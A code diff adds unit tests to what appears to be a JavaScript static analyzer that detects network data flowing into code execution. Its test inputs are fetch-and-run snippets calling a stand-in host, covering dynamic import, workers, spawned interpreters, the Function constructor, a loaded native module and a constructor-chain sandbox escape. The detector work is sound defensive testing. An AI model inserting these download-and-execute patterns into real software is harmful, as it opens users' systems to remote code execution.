@@ -118,6 +118,64 @@ describe('flows', () => {
   });
 });
 
+describe('text that becomes code', () => {
+  test.each([
+    [
+      `await import('data:text/javascript,' + encodeURIComponent(await (await fetch('https://a.test')).text()))`,
+      'import',
+    ],
+    [
+      `const u = URL.createObjectURL(new Blob([await (await fetch('https://a.test')).text()])); await import(u)`,
+      'import',
+    ],
+    [
+      `import { Worker } from 'node:worker_threads'; const c = await (await fetch('https://a.test')).text(); new Worker(c, { eval: true })`,
+      'worker_threads.Worker',
+    ],
+    [
+      `import { spawn } from 'node:child_process'; const c = spawn('node', ['-']); c.stdin.end(await (await fetch('https://a.test')).text())`,
+      'child_process.spawn().stdin.end',
+    ],
+    [
+      `const F = (async () => {}).constructor; const t = await (await fetch('https://a.test')).text(); new F(t)()`,
+      'Function',
+    ],
+  ])('%s', (code, sink) => {
+    expect(flows(code)).toContain(`network > ${sink}`);
+    expect(analyzeJs(code).flow.asked).toContain('https://a.test');
+  });
+
+  test('an address that holds no text, and a worker that is given an address, run none', () => {
+    expect(
+      flows(
+        `import { Worker } from 'node:worker_threads'; const n = await (await fetch('https://a.test')).text(); await import('./' + n + '.js'); new Worker(n)`,
+      ),
+    ).toEqual([]);
+  });
+
+  test('the constructor of a constructor is the one of functions', () => {
+    expect(
+      analyzeJs(
+        `exports.f = function () { const p = this.constructor.constructor('return process')(); p.mainModule.require('child_process').exec('id') }`,
+      ).commands.map(({ line }) => line),
+    ).toEqual(['id']);
+  });
+
+  test('a stored download that is loaded', () => {
+    const code = (name: string): string =>
+      `const fs = require('fs'), os = require('os'), path = require('path'); (async () => { const d = fs.mkdtempSync(path.join(os.tmpdir(), 'a-')); const f = path.join(d, 'b.node'); fs.writeFileSync(f, await (await fetch('https://a.test')).text()); process.dlopen(module, ${name}) })()`;
+
+    expect(flows(code('f'))).toContain('network+dropped > process.dlopen');
+    expect(flows(code(`path.join(__dirname, 'b.node')`))).not.toContain('network+dropped > process.dlopen');
+    expect(analyzeJs(code('f')).fileActions[0]?.paths).toEqual(['/tmp/a-$UNKNOWN/b.node']);
+  });
+
+  test('a word of a command that is not known is no text', () => {
+    const code = `const { spawn } = require('child_process'); (async () => { const t = await (await fetch('https://a.test')).text(); spawn('python3', ['-c', t]) })()`;
+    expect(analyzeJs(code).commands[0]?.argv).toEqual(['python3', '-c', '$UNKNOWN']);
+  });
+});
+
 describe('hostile sources', () => {
   test('nesting that no parser takes is a problem, not an exception', () => {
     expect(analyzeJs(`${'('.repeat(20_000)}1${')'.repeat(20_000)}`).problem).toBe('nesting');
